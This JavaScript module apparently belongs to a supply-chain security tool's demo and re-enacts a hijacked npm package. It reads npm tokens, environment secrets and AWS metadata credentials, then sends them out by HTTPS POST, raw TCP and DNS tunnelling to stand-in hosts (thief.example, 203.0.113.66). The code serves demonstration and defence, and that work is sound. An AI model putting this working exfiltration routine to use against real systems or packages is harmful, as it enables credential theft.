'use strict';
// What hijacked packages do, as a HARMLESS RE-ENACTMENT for `weir demo`. It runs only if the Stripe
// key is the demo's made-up one, names only hosts and addresses reserved for documentation (RFC 2606,
// RFC 5737) and the metadata address, and the demo sends all of these to servers of its own on
// 127.0.0.1. Each attempt is reported on standard output for the demo to show.
const cp = require('node:child_process');
const dns = require('node:dns').promises;
const fs = require('node:fs');
const http = require('node:http');
const https = require('node:https');
const net = require('node:net');
const os = require('node:os');
const path = require('node:path');

const patience = 3000; // ms for one answer

module.exports = async (card) => {
  if (process.env.STRIPE_API_KEY !== 'sk_test_weir_demo') return;
  const loot = { key: process.env.STRIPE_API_KEY, card: card.number };
  loot.npm = await attempt('read', '~/.npmrc', () => find(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'), /_authToken=(.+)/));
  loot.database = await attempt('read', '/proc/self/environ', () => find(fs.readFileSync('/proc/self/environ', 'utf8'), /DATABASE_URL=([^\0]+)/));
  loot.session = await attempt('exec', '/bin/sh', () => find(cp.execFileSync('/bin/sh', ['-c', 'echo "SESSION_SECRET=$SESSION_SECRET"'], { encoding: 'utf8', stdio: 'pipe' }), /SESSION_SECRET=(.+)/));
  loot.cloud = await attempt('http', 'PUT http://169.254.169.254/latest/api/token', credentials);
  await attempt('http', 'POST https://thief.example/c', () => post(loot));
  await attempt('tcp', '203.0.113.66:4444', () => pour(loot));
  await attempt('dns', 'A *.thief.example', () => ask(loot));
};

// attempt reports what an act came to. It gives the act's result, undefined if it failed.
async function attempt(kind, target, act) {
  let outcome = 'done';
  try {
    return await act();
  } catch (e) {
    outcome = e.code || e.message;
  } finally {
    console.log(['hijack', kind, target, outcome].join('\t'));
  }
}

function find(text, pattern) {
  const found = pattern.exec(text);
  if (!found) throw new Error('nothing there');
  return found[1].trim();
}

// credentials asks the cloud's metadata service, as AWS has it (IMDSv2).
async function credentials() {
  const base = { host: '169.254.169.254' };
  const token = await request(http, { ...base, method: 'PUT', path: '/latest/api/token', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } });
  const role = await request(http, { ...base, path: '/latest/meta-data/iam/security-credentials/shop', headers: { 'X-aws-ec2-metadata-token': token } });
  return JSON.parse(role).SecretAccessKey;
}

function post(loot) {
  return request(https, { host: 'thief.example', method: 'POST', path: '/c', headers: { 'content-type': 'application/json' } }, JSON.stringify(loot));
}

function request(client, options, body) {
  return new Promise((resolve, reject) => {
    const req = client.request({ timeout: patience, ...options }, (res) => {
      let text = '';
      res.setEncoding('utf8').on('data', (d) => { text += d; });
      res.on('end', () => (res.statusCode === 200 ? resolve(text) : reject(new Error('HTTP ' + res.statusCode))));
    });
    req.on('timeout', () => req.destroy(new Error('no answer'))).on('error', reject).end(body);
  });
}

// pour sends the loot over a raw connection and waits for the thief's thanks.
function pour(loot) {
  return new Promise((resolve, reject) => {
    const socket = net.connect(4444, '203.0.113.66', () => socket.write(JSON.stringify(loot) + '\n'));
    socket.setTimeout(patience, () => socket.destroy(new Error('no answer')));
    socket.on('data', () => { socket.destroy(); resolve(); });
    socket.on('error', reject).on('close', () => reject(new Error('closed')));
  });
}

// ask hides each piece of the loot in the name of a question, for the thief's name server to read.
async function ask(loot) {
  const answers = [];
  for (const [what, value] of Object.entries(loot)) {
    if (value) answers.push(...await dns.resolve4([...labels(value), what, 'thief.example'].join('.')));
  }
  if (!answers.includes('203.0.113.66')) throw new Error('made-up IP');
}

function labels(value) {
  return Buffer.from(value).toString('hex').match(/.{1,60}/g);
}
